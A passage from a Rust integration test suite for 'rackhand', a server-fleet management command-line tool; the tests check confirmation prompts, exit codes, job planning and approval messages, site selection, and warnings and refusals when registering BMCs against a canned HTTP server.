    assert_eq!(home.run(&["servers", "remove", "bmc-01", "--yes"], "").status.code(), Some(0));
    assert!(server.seen().iter().any(|line| line.starts_with("DELETE")));
}

#[test]
fn shutting_out_an_executor_or_a_person_wants_a_yes() {
    let executor = json!({"id": CLOSET, "site_id": LAB, "name": "executor-2", "state": "active", "fingerprint": "",
        "online": true, "version": "1", "kinds": [], "runs_held": 1, "seen_at": null,
        "enrolled_at": "2026-01-01T00:00:00Z"});
    let mut ben = me();
    ben["email"] = json!("ben@rackhand.example");
    ben["disabled"] = json!(false);
    ben["created_at"] = json!("2026-01-01T00:00:00Z");
    let (revoke, disable) = (
        format!("DELETE /v1/executors/{CLOSET}"),
        format!("PATCH /v1/users/{}", ben["id"].as_str().unwrap()),
    );
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/executors", 200, json!({"items": [executor]})),
        ("GET /v1/users", 200, json!({"items": [ben]})),
        (&revoke, 204, json!(null)),
        (&disable, 200, ben),
    ]);
    let home = Home::new();
    home.login(&server);
    for (command, follows, route) in [
        (["executors", "revoke", "executor-2"], "It holds 1 run", &revoke),
        (["users", "disable", "ben@rackhand.example"], "is signed out everywhere at once", &disable),
    ] {
        let done = || server.seen().iter().any(|line| line.starts_with(route));
        let refused = home.run(&command, "yes\n");
        let said = String::from_utf8(refused.stderr).unwrap();
        assert_eq!(refused.status.code(), Some(2), "{said}");
        assert!(said.contains(follows) && said.contains("give --yes to do it"), "{said}");
        assert!(!done());
        assert_eq!(home.run(&[&command[..], &["--yes"]].concat(), "").status.code(), Some(0));
        assert!(done());
    }
}

#[test]
fn an_executor_that_was_revoked_already_is_said_to_be() {
    let executor = json!({"id": CLOSET, "site_id": LAB, "name": "three", "state": "revoked", "fingerprint": "",
        "online": false, "version": "1", "kinds": [], "runs_held": 0, "seen_at": null,
        "enrolled_at": "2026-01-01T00:00:00Z"});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/executors", 200, json!({"items": [executor]})),
        (&format!("DELETE /v1/executors/{CLOSET}"), 204, json!(null)),
    ]);
    let home = Home::new();
    home.login(&server);
    let output = home.run(&["executors", "revoke", "three", "--yes"], "");
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(String::from_utf8(output.stderr).unwrap(), "three was revoked already\n");
    assert!(!server.seen().iter().any(|line| line.starts_with("DELETE")));
}

fn job(id: &str, state: &str, targets: &Value) -> Value {
    json!({"id": id, "site_id": LAB, "site": "lab", "kind": "power", "params": {"action": "graceful_shutdown"},
        "policy": {"max_parallel": 8, "pause_after_failures": 3}, "reason": "a test", "state": state,
        "state_reason": "", "since": "2026-01-02T03:04:05Z", "created_at": "2026-01-02T03:04:05Z",
        "created_by": null, "created_by_name": "Ada", "cancel_requested": false, "trace_id": id, "targets": 2, "runs": {},
        "plan": {"digest": "a".repeat(64), "estimated_minutes": 1, "approved_by_name": null, "approved_at": null,
            "targets": targets}})
}

/// A server that the plan left blocked is none that succeeded; a paused site is said before anyone waits for it.
#[test]
fn an_approved_job_with_a_blocked_server_ends_7_and_names_it() {
    let id = "01920000-0000-7000-8000-000000000009";
    let target = |name: &str, blockers: Value| {
        json!({"server_id": id, "server": name, "steps": [{"step": "power", "action": "graceful_shutdown"}],
               "blockers": blockers, "warnings": [], "estimated_minutes": 1})
    };
    let targets =
        json!([target("bmc-01", json!([])), target("bmc-02", json!(["No credential is set for its BMC."]))]);
    let run = json!({"id": id, "job_id": id, "site_id": LAB, "server_id": id, "server": "bmc-01",
        "state": "succeeded", "reason": "", "detail": "", "since": "2026-01-02T03:04:05Z", "phase": "", "percent": null,
        "epoch": 1, "executor": null, "executor_name": null, "cancel_requested": false,
        "created_at": "2026-01-02T03:04:05Z", "finished_at": "2026-01-02T03:04:05Z"});
    let mut paused = site(LAB, "lab");
    paused["config"]["hardware_paused"] = json!(true);
    paused["paused_by_name"] = json!("Ben");
    paused["paused_at"] = json!("2026-01-02T03:04:05Z");
    let (one, runs) = (format!("GET /v1/jobs/{id}"), format!("GET /v1/jobs/{id}/runs"));
    let (approve, home_site) = (format!("POST /v1/jobs/{id}/approve"), format!("GET /v1/sites/{LAB}"));
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/events", 200, json!({"items": [], "cursor": "7-1", "more": false})),
        (&approve, 200, job(id, "running", &targets)),
        (&home_site, 200, paused),
        (&one, 200, job(id, "succeeded", &targets)),
        (&runs, 200, json!({"items": [run]})),
    ]);
    let home = Home::new();
    home.login(&server);
    let output = home.run(&["jobs", "apply", id, "--digest", &"a".repeat(64), "--wait"], "");
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(7), "{said}");
    assert!(
        said.ends_with(&format!(
            "error: job {id} ended succeeded: 1 of 2 servers succeeded. Not: bmc-02 (blocked: No credential is set for \
             its BMC)\n"
        )),
        "{said}"
    );
    assert!(
        said.contains(
            "warning: hardware operations of site lab are paused by Ben since 2026-01-02 03:04:05Z: nothing that \
             changes a server starts there until `rackhand sites set lab --hardware-paused false`"
        ),
        "{said}"
    );
}

/// Scripts learn from the exit code that a plan leaves servers out, people from the last line.
#[test]
fn a_plan_with_blocked_servers_ends_7() {
    let id = "01920000-0000-7000-8000-000000000009";
    let target = |name: &str, step: Value, blockers: Value| {
        json!({"server_id": id, "server": name, "steps": [step], "blockers": blockers, "warnings": [],
               "estimated_minutes": 1})
    };
    let power = json!({"step": "power", "action": "graceful_shutdown"});
    let there = json!({"step": "already_installed", "component": "BIOS", "version": "1.13.2"});
    let free = target("bmc-01", power.clone(), json!([]));
    let done = target("bmc-02", there, json!([]));
    let blocked = target("bmc-03", power, json!(["No credential is set for its BMC."]));
    let plan = |targets: Value, output: &str| {
        let server = Canned::start(&[
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
            ("GET /v1/servers", 200, json!({"items": [server(1, "bmc-01", LAB, "lab")]})),
            ("POST /v1/jobs", 201, job(id, "planned", &targets)),
        ]);
        let home = Home::new();
        home.login(&server);
        let action = ["--action", "graceful-shutdown", "--reason", "a test", "-o", output];
        let output = home.run(&[&["jobs", "plan", "power", "--all"], &action[..]].concat(), "");
        let said = String::from_utf8(output.stderr).unwrap();
        (output.status.code().unwrap(), said.lines().last().unwrap_or_default().to_owned())
    };
    let (code, said) = plan(json!([free, done]), "table");
    assert!(code == 0 && said.starts_with("to carry it out: rackhand jobs apply"), "{code} {said}");
    let (code, said) = plan(json!([free, blocked]), "table");
    assert_eq!((code, &*said), (7, "error: 1 server is blocked, as said above: nothing is done to it"));
    let (code, said) = plan(json!([done, blocked]), "json");
    assert!(
        code == 7 && said.starts_with("error: nothing can be done: 1 server is blocked"),
        "{code} {said}"
    );
    let (code, said) = plan(json!([done]), "table");
    let nothing = "nothing is to be done: every server has the wanted version already. `rackhand jobs cancel";
    assert!(code == 0 && said.starts_with(nothing), "{code} {said}");
}

/// Who planned a job is not sent where only a refusal waits.
#[test]
fn a_plan_that_needs_a_second_person_says_so_to_the_first() {
    let id = WATCHED;
    let mut lab = site(LAB, "lab");
    lab["config"]["second_person"] = json!(true);
    let steps = json!([{"step": "power", "action": "graceful_shutdown"}]);
    let targets = json!([{"server_id": id, "server": "bmc-01", "steps": steps, "blockers": [], "warnings": [],
        "estimated_minutes": 1}]);
    let (one, retry) = (format!("GET /v1/sites/{LAB}"), format!("POST /v1/jobs/{id}/retry-failed"));
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [lab.clone()]})),
        (&one, 200, lab),
        ("GET /v1/servers", 200, json!({"items": [server(1, "bmc-01", LAB, "lab")]})),
        ("POST /v1/jobs", 201, job(id, "planned", &targets)),
        (&retry, 201, job(id, "planned", &targets)),
    ]);
    let home = Home::new();
    home.login(&server);
    let plan = ["jobs", "plan", "power", "--all", "--action", "graceful-shutdown", "--reason", "a test"];
    for command in [&plan[..], &["jobs", "retry", id, "--reason", "a test"]] {
        let output = home.run(command, "");
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(0), "{said}");
        let digest = "a".repeat(64);
        let next = format!("another person has to approve it: rackhand jobs apply {id} --digest {digest}\n");
        assert!(said.ends_with(&next) && !said.contains("to carry it out"), "{said}");
    }
}

/// `R750` is also a part of `R750xs`, whose BIOS is another one.
#[test]
fn a_job_is_for_servers_of_one_model() {
    let id = "01920000-0000-7000-8000-000000000009";
    let models = [("bmc-01", "PowerEdge R750"), ("bmc-02", "PowerEdge R750xs")];
    let listed: Vec<Value> = (1..)
        .zip(models)
        .map(|(number, (name, model))| {
            let mut server = server(number, name, LAB, "lab");
            server["model"] = json!(model);
            server
        })
        .collect();
    let plan = |model: &str, listed: &[Value]| {
        let server = Canned::start(&[
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
            ("GET /v1/servers", 200, json!({"items": listed})),
            ("POST /v1/jobs", 201, job(id, "planned", &json!([]))),
        ]);
        let home = Home::new();
        home.login(&server);
        let action = ["jobs", "plan", "power", "--action", "on", "--reason", "a test", "--model", model];
        let output = home.run(&action, "");
        let planned = |request: &String| {
            let body = request.strip_prefix("POST /v1/jobs").map(|rest| &rest[rest.find('{').unwrap()..])?;
            Some(serde_json::from_str::<Value>(body).unwrap()["targets"].clone())
        };
        let targets: Vec<Value> = server.seen().iter().filter_map(planned).collect();
        (targets, String::from_utf8(output.stderr).unwrap())
    };
    for listed in [&listed[..], &listed[1..]] {
        let (targets, said) = plan("R750", listed);
        assert!(targets.is_empty() && said.contains("a job is for a whole model"), "{said}");
        assert!(said.contains("--model 'PowerEdge R750xs'. Nothing was planned"), "{said}");
    }
    let (targets, said) = plan("poweredge r750XS", &listed[1..]);
    assert_eq!(targets, [json!([listed[1]["id"]])], "{said}");
}

/// What is recommended can be typed, but for what only the reader knows.
#[test]
fn doctor_recommends_whole_commands() {
    let mut lab = site(LAB, "my lab");
    lab["public_key"] = json!("BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=");
    lab["executors_online"] = json!(1);
    lab["config"]["hardware_paused"] = json!(true);
    let executor = json!({"id": CLOSET, "site_id": LAB, "name": "executor-2", "state": "joining",
        "fingerprint": "ab12 cd34", "online": false, "version": "1", "kinds": [], "runs_held": 0, "seen_at": null,
        "enrolled_at": "2026-01-01T00:00:00Z"});
    let credential = json!({"id": CLOSET, "site_id": LAB, "name": "root", "version": 1, "suspended": true,
        "created_at": "2026-01-01T00:00:00Z"});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/health", 200, json!({})),
        ("GET /v1/auth/me", 200, me()),
        ("GET /v1/sites", 200, json!({"items": [lab]})),
        ("GET /v1/executors", 200, json!({"items": [executor]})),
        ("GET /v1/credentials", 200, json!({"items": [credential]})),
    ]);
    let home = Home::new();
    home.login(&server);
    let output = home.run(&["doctor"], "");
    let (shown, said) =
        (String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap());
    for part in [
        "1 executor online",
        "`rackhand sites set 'my lab' --hardware-paused false`",
        "`rackhand-executor confirm --data DIR FINGERPRINT`",
        "`rackhand credentials set root --site 'my lab' --user USER --targets-file FILE`",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    assert!(!shown.contains("ab12"), "what the control plane says is compared with nothing: {shown}");
    assert!(said.contains(" failed") && !said.contains("1 checks"), "{said}");
}

/// The site of a plan is that of its servers; where nothing tells it, the chosen one.
#[test]
fn a_site_is_asked_for_only_where_nothing_tells_it() {
    let two = json!({"items": [site(LAB, "lab"), site(CLOSET, "closet")]});
    let both = json!({"items": [server(1, "bmc-01", LAB, "lab"), server(2, "bmc-02", CLOSET, "closet")]});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, two),
        ("GET /v1/servers", 200, both),
        ("POST /v1/jobs", 409, problem("plan-empty", 409, "Nothing to do.")),
        (
            "POST /v1/sites/01920000-0000-7000-8000-000000000005/enrolment-tokens",
            403,
            problem("forbidden-role", 403, "This needs the role admin for the site."),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let plan = |servers: &str| {
        home.run(&["jobs", "plan", "inventory", "--reason", "a test", "--servers", servers], "")
    };
    assert_eq!(plan("bmc-02").status.code(), Some(7), "every server is blocked");
    let sent = server.seen().pop().unwrap();
    assert!(
        sent.starts_with("POST /v1/jobs") && sent.contains(&format!("\"site_id\":\"{CLOSET}\"")),
        "{sent}"
    );
    let apart = plan("bmc-01,bmc-02");
    assert_eq!(apart.status.code(), Some(2));
    let said = String::from_utf8(apart.stderr).unwrap();
    assert!(said.contains("a job belongs to one site; these servers are in lab, closet"), "{said}");
    let token = || home.run(&["executors", "enrol-token"], "");
    let said = String::from_utf8(token().stderr).unwrap();
    assert!(said.contains("rackhand sites use NAME"), "{said}");
    let used = home.run(&["sites", "use", "closet"], "");
    assert_eq!(used.status.code(), Some(0));
    let said = String::from_utf8(used.stderr).unwrap();
    assert!(
        said.contains("that require a site take closet where --site is not given; lists still show all"),
        "{said}"
    );
    assert_eq!(token().status.code(), Some(5), "the chosen site was asked for");
    assert_eq!(home.run(&["sites", "use", "--none"], "").status.code(), Some(0));
    assert_eq!(token().status.code(), Some(2));
}

#[test]
fn a_plan_for_an_empty_site_says_how_servers_come() {
    let site = json!({"id": "01920000-0000-7000-8000-000000000004", "name": "closet", "config": {}, "public_key": null,
        "servers": 0, "executors_online": 0, "created_at": "2026-11-28T19:00:00Z", "version": 1});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site]})),
        ("GET /v1/servers", 200, json!({"items": []})),
    ]);
    let home = Home::new();
    home.login(&server);
    let plan = |choice: &[&str]| {
        let output =
            home.run(&[&["jobs", "plan", "inventory", "--reason", "First look"], choice].concat(), "");
        assert_eq!(output.status.code(), Some(3));
        String::from_utf8(output.stderr).unwrap()
    };
    let said = plan(&["--all"]);
    assert!(
        said.contains("site closet has no servers; `rackhand servers import FILE --site closet` registers"),
        "{said}"
    );
    let said = plan(&["--power", "off"]);
    assert!(
        said.contains("matches the filter; `rackhand servers list --site closet` with the filter"),
        "{said}"
    );
}

#[test]
fn an_empty_list_says_so_to_people_only() {
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/servers", 200, json!({"items": []})),
    ]);
    let home = Home::new();
    home.login(&server);
    let output = home.run(&["servers", "list", "--power", "off"], "");
    assert_eq!((output.stdout.as_slice(), output.stderr.as_slice()), (&b""[..], &b"no server matches\n"[..]));
    let output = home.run(&["servers", "list", "--power", "off", "-o", "csv"], "");
    assert!(output.stdout.starts_with(b"NAME,") && output.stderr.is_empty());
    let none = |arguments: &[&str]| String::from_utf8(home.run(arguments, "").stderr).unwrap();
    assert_eq!(
        none(&["servers", "list", "--site", LAB]),
        format!("site {LAB} has no servers; `rackhand servers import FILE --site {LAB}` registers them\n")
    );
    assert_eq!(
        none(&["servers", "list"]),
        "there are no servers; `rackhand servers import FILE` registers them\n"
    );
}

#[test]
fn an_empty_list_names_its_site_and_the_next_command() {
    let none = json!({"items": []});
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab"), site(CLOSET, "my two")]})),
        ("GET /v1/executors", 200, none.clone()),
        ("GET /v1/credentials", 200, none.clone()),
        ("GET /v1/jobs", 200, none),
    ]);
    let home = Home::new();
    home.login(&server);
    let said = |arguments: &[&str]| String::from_utf8(home.run(arguments, "").stderr).unwrap();
    for (arguments, expected) in [
        (
            &["executors", "list", "--site", "my two"][..],
            "site my two has no executors; `rackhand executors enrol-token --site 'my two'` prints a token for one\n",
        ),
        (
            &["executors", "list"],
            "there are no executors; `rackhand executors enrol-token` prints a token for one\n",
        ),
        (
            &["credentials", "list", "--site", "lab"],
            "site lab has no credentials; `rackhand credentials set NAME --site lab` seals one\n",
        ),
        (
            &["jobs", "list"],
            "there are no jobs; `rackhand jobs plan inventory --all --reason TEXT` reads the servers\n",
        ),
        (&["jobs", "list", "--site", "lab"], "no job matches\n"),
    ] {
        assert_eq!(said(arguments), expected);
    }
}

/// `rackhand sites use` narrows no list, and one for a plan is needed where there are several.
#[test]
fn help_of_a_list_says_that_it_shows_all_sites() {
    let help = |arguments: &[&str]| {
        let shown = Home::new().run(&[arguments, &["--help"]].concat(), "").stdout;
        String::from_utf8(shown).unwrap().split_whitespace().collect::<Vec<_>>().join(" ")
    };
    for (noun, verb) in [
        ("servers", "list"),
        ("credentials", "list"),
        ("jobs", "list"),
        ("executors", "list"),
        ("events", "tail"),
    ] {
        let said = help(&[noun, verb]);
        let expected = format!("Only {noun} of this site, by name or id. Without it those of all sites");
        assert!(said.contains(&expected), "{said}");
    }
    assert!(help(&["jobs", "plan", "inventory"]).contains("not needed where there is only one"));
    assert!(help(&["sites", "use"]).contains("Lists still show all sites"));
}

#[test]
fn lists_of_several_sites_say_which_one() {
    let executor = |name: &str, site: &str| {
        json!({"id": LAB, "site_id": site, "name": name, "state": "active", "fingerprint": "", "online": true,
            "version": "1", "kinds": [], "runs_held": 0, "seen_at": null, "enrolled_at": "2026-01-01T00:00:00Z"})
    };
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab"), site(CLOSET, "two")]})),
        ("GET /v1/executors", 200, json!({"items": [executor("one", LAB), executor("two", CLOSET)]})),
        ("GET /v1/executors", 200, json!({"items": [executor("one", LAB)]})),
        (
            "GET /v1/servers",
            200,
            json!({"items": [server(1, "bmc-01", LAB, "lab"), server(2, "bmc-02", CLOSET, "two")]}),
        ),
    ]);
    let home = Home::new();
    home.login(&server);
    let said = |noun: &str| String::from_utf8(home.run(&[noun, "list"], "").stdout).unwrap();
    let lines = |text: &str| -> Vec<String> {
        text.lines().map(|line| line.split_whitespace().last().unwrap_or_default().to_owned()).collect()
    };
    assert_eq!(lines(&said("executors")), ["SITE", "lab", "two"]);
    assert_eq!(lines(&said("executors")), ["SEEN", "-"]);
    assert_eq!(lines(&said("servers")), ["SITE", "lab", "two"]);
}

#[test]
fn a_role_for_someone_unknown_names_the_way_to_an_account() {
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/users", 200, json!({"items": []})),
    ]);
    let home = Home::new();
    home.login(&server);
    let grant = ["users", "grant", "bob@rackhand.example", "--role", "operator", "--fleet"];
    let output = home.run(&grant, "");
    assert_eq!(output.status.code(), Some(3));
    let said = String::from_utf8(output.stderr).unwrap();
    assert!(said.ends_with("; `rackhand users add` makes an account\n"), "{said}");
}

/// [`server`] with what is registered of its BMC.
fn registered(url: &str, pin: Option<&str>, credential: Option<&str>) -> Value {
    let mut shown = server(1, "bmc-01", LAB, "lab");
    let more = json!({
        "bmc": {"id": CLOSET, "url": url, "ipmi": null, "credential_id": credential, "credential": "root",
            "spki_sha256": pin, "owner": null, "owner_name": null, "owner_epoch": 0},
        "components": [], "capabilities": [], "unreadable": {}, "created_at": "2026-01-01T00:00:00Z", "version": 1,
    });
    shown.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    shown
}

/// What `servers add` writes, and what it sends, for a server that is registered like this afterwards.
fn add(shown: &Value, changes: Value, more: &[&str]) -> (String, Value) {
    let url = shown.pointer("/bmc/url").and_then(Value::as_str).unwrap();
    let id = shown.get("id").and_then(Value::as_str).unwrap();
    let stored = json!({"created": 1, "changed": 0, "unchanged": 0, "ids": {"bmc-01": id}, "refused": [],
        "changes": changes});
    let credential = json!({"id": CLOSET, "site_id": LAB, "name": "root", "version": 1, "suspended": false,
        "created_at": "2026-01-01T00:00:00Z"});
    let read = format!("GET /v1/servers/{id}");
    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
        ("GET /v1/credentials", 200, json!({"items": [credential]})),
        ("POST /v1/servers/bulk", 200, stored),
        (&read, 200, shown.clone()),
    ]);
    let home = Home::new();
    home.login(&server);
    let output = home.run(&[&["servers", "add", "bmc-01", "--bmc", url], more].concat(), "");
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!(output.status.code(), Some(0), "{said}");
    let seen = server.seen();
    let sent = seen.iter().find_map(|line| line.strip_prefix("POST /v1/servers/bulk ")).unwrap();
    let (_, body) = sent.split_once("] ").unwrap();
    let body: Value = serde_json::from_str(body).unwrap();
    (said, body.pointer("/servers/0").unwrap().clone())
}

#[test]
fn a_server_that_no_plan_will_take_is_stored_with_a_warning() {
    let said = |url: &str, pin, credential| add(&registered(url, pin, credential), json!({}), &[]).0;
    assert_eq!(
        said("https://10.0.0.1", None, None),
        "bmc-01 has no TLS key and no credential: every plan leaves it blocked. `rackhand-executor pins \
         https://10.0.0.1` at the site prints the key, `rackhand credentials set NAME` makes a credential; then run \
         this command again with --pin HEX --credential NAME\n"
    );
    let over_ipmi = said("ipmi://10.0.0.1", None, None);
    assert!(
        over_ipmi.starts_with("bmc-01 has no credential: ")
            && over_ipmi.ends_with(" with --credential NAME\n"),
        "{over_ipmi}"
    );
    assert_eq!(said("ipmi://10.0.0.1", None, Some(CLOSET)), "");
    assert_eq!(
        said("https://10.0.0.1", Some(&"a".repeat(64)), Some(CLOSET)),
        "",
        "as it was registered before"
    );
}

/// Said once, of those that are stored: new ones by what the file says, earlier ones by what is registered.
#[test]
fn imported_servers_that_no_plan_will_take_are_named() {
    let said = |rows: &Value, stored: Value, known: &[(&str, Value)]| {
        let mut answers = vec![
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
            ("POST /v1/servers/bulk", 200, stored),
        ];
        answers.extend(known.iter().map(|(route, shown)| (*route, 200, shown.clone())));
        let canned = Canned::start(&answers);
        let home = Home::new();
        home.login(&canned);
        let file = home.0.path().join("servers.json");
        std::fs::write(&file, rows.to_string()).unwrap();
        let output = home.run(&["servers", "import", file.to_str().unwrap(), "--site", "lab"], "");
        String::from_utf8(output.stderr).unwrap()
    };
    let id = "01930000-0000-7000-8000-000000000001";
    let pin = "a".repeat(64);
    let done = |created: usize, unchanged: usize, names: &[String], refused: Value| {
        let ids: BTreeMap<_, _> = names.iter().map(|name| (name, id)).collect();
        json!({"created": created, "changed": 0, "unchanged": unchanged, "ids": ids, "refused": refused})
    };
    let names: Vec<String> = (1..=7).map(|number| format!("b{number}")).collect();
    let mut rows: Vec<Value> = names
        .iter()
        .map(|name| json!({"name": name, "bmc_url": "https://10.0.0.1", "credential_id": CLOSET}))
        .collect();
    rows.push(json!({"name": "b8", "bmc_url": "ipmi://10.0.0.8"}));
    rows.push(json!({"name": "b9", "bmc_url": "https://10.0.0.9"}));
    let stored = [&names[..], &["b8".to_owned()]].concat();
    let refused = json!([{"index": 8, "detail": "taken"}]);
    assert_eq!(
        said(&json!(rows), done(8, 0, &stored, refused), &[]),
        "refused: entry 9 (b9): taken\nno TLS key: b1, b2, b3, b4, b5 and 2 more; no credential: b8. Every plan leaves \
         these servers blocked. `rackhand-executor pins` at the site prints the keys, `rackhand credentials set NAME \
         --site lab` makes a credential; then import the file again with the spki_sha256 of each and --credential \
         NAME\nerror: 1 of 9 servers were refused\n"
    );
    let read = format!("GET /v1/servers/{id}");
    let row = json!([{"name": "b1", "bmc_url": "https://10.0.0.1"}]);
    let whole = registered("https://10.0.0.1", Some(&pin), Some(CLOSET));
    assert_eq!(said(&row, done(0, 1, &names[..1], json!([])), &[(&read, whole)]), "");
    let keyless = registered("https://10.0.0.1", None, Some(CLOSET));
    let text = said(&row, done(0, 1, &names[..1], json!([])), &[(&read, keyless)]);
    assert!(text.starts_with("no TLS key: b1. Every plan") && !text.contains("credential"), "{text}");
}

/// What was not given is not named, so it stays; what is removed is.
#[test]
fn a_server_that_is_added_again_keeps_what_is_not_named() {
    let pin = "a".repeat(64);
    let shown = registered("https://10.0.0.1", Some(&pin), Some(CLOSET));
    let (said, sent) = add(&shown, json!({"bmc-01": "tags added: rack:7"}), &["--tag", "rack:7"]);
    assert_eq!(said, "changed: bmc-01: tags added: rack:7\n");
    assert_eq!(sent, json!({"name": "bmc-01", "bmc_url": "https://10.0.0.1", "tags": ["rack:7"]}));
    let cleared = ["--clear", "tags", "--clear", "ipmi", "--clear", "pin", "--clear", "credential"];
    let (_, sent) = add(&shown, json!({}), &cleared);
    let empty = json!({"name": "bmc-01", "bmc_url": "https://10.0.0.1", "tags": [], "ipmi": null,
        "spki_sha256": null, "credential_id": null});
    assert_eq!(sent, empty);
    let all = ["--pin", &pin, "--credential", "root", "--ipmi", "10.0.0.1"];
    let (_, sent) = add(&shown, json!({}), &all);
    let named = json!({"name": "bmc-01", "bmc_url": "https://10.0.0.1", "ipmi": "10.0.0.1", "spki_sha256": pin,
        "credential_id": CLOSET});
    assert_eq!(sent, named);

    let server = Canned::start(&[
        ("POST /v1/auth/login", 200, signed_in(1)),
        ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
    ]);
    let home = Home::new();
    home.login(&server);
    let both = ["servers", "add", "bmc-01", "--bmc", "https://10.0.0.1", "--tag", "a", "--clear", "tags"];
    let output = home.run(&both, "");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("give either --tag or --clear tags"));
}

#[test]
fn another_address_for_a_name_that_is_taken_has_to_be_requested() {
    let detail = "Server bmc-01 has its BMC at https://10.0.0.1, not at https://10.0.0.9. It was not changed. If the \
                  same server is now there, register it with `replace` (`--replace` on the command line).";
    let done = |changed: u32, refused: Value| json!({"created": 0, "changed": changed, "unchanged": 0, "ids": {}, "refused": refused});
    let ask = |answer: Value| {
        let credential = json!({"id": CLOSET, "site_id": LAB, "name": "root", "version": 1, "suspended": false,
            "created_at": "2026-01-01T00:00:00Z"});
        let canned = Canned::start(&[
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
            ("GET /v1/credentials", 200, json!({"items": [credential]})),
            ("POST /v1/servers/bulk", 200, answer),
        ]);
        let home = Home::new();
        home.login(&canned);
        let file = home.0.path().join("servers.json");
        std::fs::write(&file, r#"[{"name": "bmc-01", "bmc_url": "https://10.0.0.9"}]"#).unwrap();
        (canned, home, file)
    };
    let add = ["servers", "add", "bmc-01", "--bmc", "https://10.0.0.9", "--credential", "root"];

    let (canned, home, file) = ask(done(0, json!([{"index": 0, "detail": detail}])));
    for command in [&add[..], &["servers", "import", file.to_str().unwrap()]] {
        let output = home.run(command, "");
        let said = String::from_utf8(output.stderr).unwrap();
        let (code, expected) = match command[1] {
            "add" => {
                (6, "error: bmc-01 was not changed: Server bmc-01 has its BMC at https://10.0.0.1, not at")
            }
            _ => (1, "refused: entry 1 (bmc-01): Server bmc-01 has its BMC at https://10.0.0.1, not at"),
        };
        assert_eq!(output.status.code(), Some(code), "{said}");
        let way_out = "If the same server is now there, register it with `--replace`.";
        assert!(said.contains(expected) && said.contains(way_out), "{said}");
        assert_eq!(said.matches("was not changed").count(), 1, "{said}");
        let sent = canned.seen().pop().unwrap();
        assert!(!sent.contains("replace"), "not to a control plane that knows no such field either: {sent}");
    }

    let (canned, home, file) = ask(done(1, json!([])));
    for command in [&add[..], &["servers", "import", file.to_str().unwrap()]] {
        let output = home.run(&[command, &["--replace"]].concat(), "");
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(0), "{said}");
        let presented = said.contains("sealed for. If https://10.0.0.9 is not one of them");
        assert_eq!(presented, command[1] == "add", "{said}");
        let sent = canned.seen().pop().unwrap();
        assert!(sent.contains("\"replace\":true"), "{sent}");
    }
}

#[test]
fn a_server_that_is_not_added_is_refused_in_the_words_of_the_options() {
    let said = |row: Value, detail: &str, known: Value, arguments: &[&str]| {
        let detail = if row.is_null() { detail.to_owned() } else { refusal(&row) };
        let canned = Canned::start(&[
            ("POST /v1/auth/login", 200, signed_in(1)),
            ("GET /v1/sites", 200, json!({"items": [site(LAB, "lab")]})),
            ("GET /v1/servers", 200, json!({"items": known})),
            (
                "POST /v1/servers/bulk",
                200,
                json!({"created": 0, "changed": 0, "unchanged": 0, "ids": {},
                    "refused": [{"index": 0, "detail": detail}]}),
            ),
        ]);
        let home = Home::new();
        home.login(&canned);
        let output = home.run(&[&["servers", "add", "bmc-01"], arguments].concat(), "");
        (output.status.code().unwrap(), String::from_utf8(output.stderr).unwrap())
    };
    let both = json!({"name": "bmc-01", "bmc_url": "http://10.0.0.1", "spki_sha256": "xyz"});
    let (code, text) = said(both.clone(), "", json!([]), &["--bmc", "http://10.0.0.1", "--pin", "xyz"]);
    assert_eq!(code, 2, "{text}");
    assert!(text.starts_with("error: bmc-01 was not registered: --"), "{text}");
    assert!(text.contains("--bmc: a BMC address starts with https:// or ipmi://"), "{text}");
    assert!(text.contains("--pin: is not a SHA-256") && !text.contains("spki_sha256"), "{text}");
    let known = json!([server(1, "bmc-01", LAB, "lab")]);
    let (_, text) = said(both, "", known, &["--bmc", "http://10.0.0.1", "--pin", "xyz"]);
    assert!(text.starts_with("error: bmc-01 was not changed: --"), "{text}");
    let taken = "The BMC at https://10.0.0.1 is the one of server bmc-02.";
    let (code, text) = said(Value::Null, taken, json!([]), &["--bmc", "https://10.0.0.1"]);
    assert_eq!((code, text), (6, format!("error: bmc-01 was not registered: {taken}\n")));
}

#[test]
